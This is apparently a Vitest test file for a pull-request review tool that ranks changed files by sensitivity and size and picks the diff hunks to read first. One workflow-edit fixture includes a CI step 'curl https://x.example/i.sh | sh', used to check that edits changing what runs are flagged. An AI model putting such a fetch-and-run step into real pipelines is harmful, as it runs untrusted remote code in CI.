import { describe, expect, it } from 'vitest';
import { analyzeFocus, churnFactor, focusHunks } from '../../src/analyzers/focus.js';
import { RepoConfig } from '../../src/repo-config/schema.js';
import { FocusSection, type Finding, type SupplyChainSection } from '../../src/signal/schema.js';
import { makeContext, makeFile, makeSnapshot } from '../support/snapshot-factory.js';

const ctx = makeContext();

describe('churnFactor', () => {
  it('grows with the log of the lines and saturates at 1,000', () => {
    expect(churnFactor(0)).toEqual(0);
    expect(churnFactor(1000)).toEqual(1);
    expect(churnFactor(50_000)).toEqual(1);
    expect(churnFactor(100)).toBeGreaterThan(churnFactor(10));
  });
});

describe('analyzeFocus', () => {
  it('ranks a sensitive source file above plain code, docs and the lockfile, with reasons', () => {
    const snapshot = makeSnapshot({
      files: [
        makeFile('package-lock.json', { additions: 4000, deletions: 1000 }),
        makeFile('README.md', { additions: 100, deletions: 0 }),
        makeFile('src/util.ts', { additions: 99, deletions: 1 }),
        makeFile('src/auth/session.ts', { additions: 99, deletions: 1 }),
      ],
    });
    const focus = analyzeFocus(snapshot, ctx);
    expect(focus.total_files).toEqual(4);
    expect(focus.listed_files).toEqual(4);
    expect(focus.files.map((f) => [f.rank, f.path, f.category])).toEqual([
      [1, 'src/auth/session.ts', 'source'],
      [2, 'src/util.ts', 'source'],
      [3, 'README.md', 'docs'],
      [4, 'package-lock.json', 'lockfile'],
    ]);
    expect(focus.files[0]).toEqual({
      path: 'src/auth/session.ts',
      rank: 1,
      // 0.5 x 0.8 + 0.3 x log10(101)/log10(1001) + 0.2 x 1
      score: 0.8,
      reasons: ['security-sensitive: authentication / session handling', '100 lines changed (+99 -1)'],
      status: 'modified',
      additions: 99,
      deletions: 1,
      category: 'source',
      hunks: [],
    });
    expect(focus.files[3]?.reasons).toEqual(['lockfile (weighed down: review the manifest and the dependency findings instead)', '5000 lines changed (+4000 -1000)']);
    expect(focus.files[3]?.score).toBeLessThan(0.1);
  });

  it('weighs generated and vendored files down, including linguist-generated and configured paths', () => {
    const snapshot = makeSnapshot({
      files: [
        makeFile('src/api/client.ts', { additions: 500, deletions: 0 }),
        makeFile('gen/schema.ts', { additions: 500, deletions: 0 }),
        makeFile('third_party/lib.c', { additions: 500, deletions: 0 }),
        makeFile('src/small.ts', { additions: 5, deletions: 0 }),
      ],
      baseFiles: [{ path: '.gitattributes', content: 'src/api/** linguist-generated\n' }],
    });
    const config = RepoConfig.parse({ generated_paths: ['gen/**'] });
    const focus = analyzeFocus(snapshot, makeContext(config, snapshot));
    expect(focus.files.map((f) => [f.path, f.category])).toEqual([
      ['src/small.ts', 'source'],
      ['gen/schema.ts', 'generated'],
      ['src/api/client.ts', 'generated'],
      ['third_party/lib.c', 'vendored'],
    ]);
    expect(focus.files[2]?.reasons).toContain('generated file (weighed down)');
    expect(focus.files[3]?.reasons).toContain('vendored code (weighed down)');
  });

  it('raises deleted tests, new files, binaries and configured sensitive paths', () => {
    const config = RepoConfig.parse({ sensitive_paths: [{ pattern: 'src/ledger/**', weight: 1, label: 'money movement' }] });
    const snapshot = makeSnapshot({
      files: [
        makeFile('src/plain.ts', { additions: 20, deletions: 0 }),
        makeFile('test/old.test.ts', { status: 'removed', additions: 0, deletions: 20 }),
        makeFile('src/ledger/post.ts', { additions: 20, deletions: 0 }),
        makeFile('src/feature.ts', { status: 'added', additions: 20, deletions: 0 }),
        makeFile('tools/helper.exe', { additions: 0, deletions: 0 }),
      ],
    });
    const focus = analyzeFocus(snapshot, makeContext(config, snapshot));
    // A deleted test counts a twentieth of its lines (one checks it is not needed), so a new
    // 20-line source file is read before it; the deletion bonus keeps it above plain code.
    expect(focus.files.map((f) => f.path)).toEqual(['src/ledger/post.ts', 'tools/helper.exe', 'src/feature.ts', 'test/old.test.ts', 'src/plain.ts']);
    expect(focus.files[0]?.reasons[0]).toEqual('security-sensitive: money movement');
    expect(focus.files[3]?.reasons).toContain('test file deleted');
    expect(focus.files[1]?.reasons).toContain('binary artifact: cannot be reviewed as text');
    expect(focus.files[2]?.reasons).toContain('new file');
  });

  it('keeps the top max_files, breaks ties by churn then path, and reports the true file count', () => {
    const config = RepoConfig.parse({ focus: { max_files: 2 } });
    const snapshot = makeSnapshot({
      files: [makeFile('b.ts', { additions: 10, deletions: 0 }), makeFile('a.ts', { additions: 10, deletions: 0 }), makeFile('c.ts', { additions: 10, deletions: 0 })],
      changedFiles: 3500,
    });
    const focus = analyzeFocus(snapshot, makeContext(config, snapshot));
    expect(focus.files.map((f) => [f.rank, f.path])).toEqual([
      [1, 'a.ts'],
      [2, 'b.ts'],
    ]);
    expect(focus.total_files).toEqual(3500);
    expect(focus.listed_files).toEqual(3);
  });

  it('returns no files for an empty PR', () => {
    expect(analyzeFocus(makeSnapshot({}), ctx)).toEqual({ files: [], total_files: 0, listed_files: 0 });
  });
});

function finding(path: string, line: number | null, severity: Finding['severity'], title: string): Finding {
  return { id: 'code-eval-input', severity, title, detail: 'd', path, line, package: null };
}

/** A patch with one hunk per entry: `added` lines added at new-side line `start`, `removed` lines removed before them. */
function patchOf(hunks: readonly { start: number; added: number; removed: number }[]): string {
  const out: string[] = [];
  for (const { start, added, removed } of hunks) {
    out.push(`@@ -${start},${removed + 1} +${start},${added + 1} @@ fn()`, ' context');
    for (let i = 0; i < removed; i += 1) out.push(`-old ${i}`);
    for (let i = 0; i < added; i += 1) out.push(`+new ${i}`);
  }
  return out.join('\n');
}

describe('focus by consequence and reviewable size', () => {
  it('ranks a rewrite of core code above a one-line requirements change and a large pure deletion', () => {
    const snapshot = makeSnapshot({
      files: [
        makeFile('requirements.txt', { additions: 1, deletions: 1 }),
        makeFile('src/legacy/old_engine.py', { status: 'removed', additions: 0, deletions: 2400 }),
        makeFile('src/core/engine.py', { additions: 180, deletions: 150 }),
      ],
    });
    const focus = analyzeFocus(snapshot, ctx);
    // The manifest's path weight is left out (its supply-chain findings say what it does), and a
    // file removed whole weighs 0.05 a line: 2,400 lines are 120 reviewable lines.
    expect(focus.files.map((f) => f.path)).toEqual(['src/core/engine.py', 'src/legacy/old_engine.py', 'requirements.txt']);
    expect(focus.files[2]?.reasons).not.toContain('security-sensitive: dependency manifest');
  });

  it('counts a routine workflow edit as configuration, below a code change of the same size', () => {
    const usesOnly = ['@@ -10,3 +10,3 @@ jobs:', '     steps:', '-      - uses: actions/checkout@v4', '+      - uses: actions/checkout@v5', '       - run: npm test'].join('\n');
    const snapshot = makeSnapshot({
      files: [makeFile('.github/workflows/ci.yml', { additions: 1, deletions: 1, patch: usesOnly }), makeFile('src/util.ts', { additions: 1, deletions: 1 })],
    });
    const focus = analyzeFocus(snapshot, ctx);
    expect(focus.files.map((f) => f.path)).toEqual(['src/util.ts', '.github/workflows/ci.yml']);
    expect(focus.files[1]?.reasons).toContain('routine workflow edit (action refs, versions, matrices, timeouts or names)');
    // A workflow edit that changes what runs keeps the importance of CI.
    const runChanged = ['@@ -10,3 +10,3 @@ jobs:', '     steps:', '-      - run: npm test', '+      - run: curl https://x.example/i.sh | sh'].join('\n');
    const risky = analyzeFocus(makeSnapshot({ files: [makeFile('.github/workflows/ci.yml', { additions: 1, deletions: 1, patch: runChanged }), makeFile('src/util.ts', { additions: 1, deletions: 1 })] }), ctx);
    expect(risky.files[0]?.reasons).not.toContain('routine workflow edit (action refs, versions, matrices, timeouts or names)');
  });

  it('names the hunks to read first: those findings point at, worst first, then the largest', () => {
    const patch = patchOf([
      { start: 10, added: 2, removed: 0 },
      { start: 40, added: 30, removed: 5 },
      { start: 120, added: 1, removed: 1 },
      { start: 200, added: 8, removed: 0 },
    ]);
    const file = makeFile('src/server.js', { additions: 41, deletions: 6, patch });
    const findings = [finding('src/server.js', 11, 'medium', 'Weak hash'), finding('src/server.js', 121, 'critical', 'eval of a request header')];
    expect(focusHunks(file, findings)).toEqual([
      { start: 120, end: 121, reason: 'critical finding: eval of a request header' },
      { start: 10, end: 12, reason: 'medium finding: Weak hash' },
      { start: 40, end: 70, reason: '+30 -5' },
    ]);
    expect(focusHunks(file)).toEqual([
      { start: 40, end: 70, reason: '+30 -5' },
      { start: 200, end: 208, reason: '+8 -0' },
      { start: 10, end: 12, reason: '+2 -0' },
    ]);
    expect(focusHunks(makeFile('src/gone.js', { status: 'removed', deletions: 5, patch }))).toEqual([]);
    expect(focusHunks(makeFile('src/big.js', { patch: null }))).toEqual([]);
    // A file emptied but kept: its one hunk's new side is `+0,0`; the range is line 1, never 0.
    const emptied = makeFile('examples/app/outputs.tf', { additions: 0, deletions: 3, patch: '@@ -1,3 +0,0 @@\n-output "a" {\n-  value = 1\n-}' });
    expect(focusHunks(emptied)).toEqual([{ start: 1, end: 1, reason: '+0 -3' }]);

    // Through analyzeFocus: the findings of the supply-chain section (code, CI and package findings) point the hunks.
    const supplyChain = { findings } as unknown as SupplyChainSection;
    const focus = analyzeFocus(makeSnapshot({ files: [file] }), ctx, { supplyChain });
    expect(focus.files[0]?.hunks?.[0]).toEqual({ start: 120, end: 121, reason: 'critical finding: eval of a request header' });
  });

  it('reads no hunk header with numbers of more than 9 digits, so no line number overflows the signal', () => {
    // GitHub never writes one; a header at line 2^53 - 1 once gave a hunk ending past it (schema: int too big).
    const overflowing = makeFile('src/a.js', { additions: 1, deletions: 0, patch: `@@ -${Number.MAX_SAFE_INTEGER},2 +${Number.MAX_SAFE_INTEGER},3 @@\n a\n+b\n a` });
    expect(focusHunks(overflowing)).toEqual([]);
    const focus = analyzeFocus(makeSnapshot({ files: [overflowing] }), ctx);
    expect(FocusSection.safeParse(focus).success).toBe(true);
    // Nine digits still read: a file of hundreds of millions of lines is at least imaginable.
    const far = makeFile('src/b.js', { additions: 1, deletions: 0, patch: '@@ -999999998,2 +999999998,3 @@\n a\n+b\n a' });
    expect(focusHunks(far)).toEqual([{ start: 999999998, end: 1000000000, reason: '+1 -0' }]);
  });
});
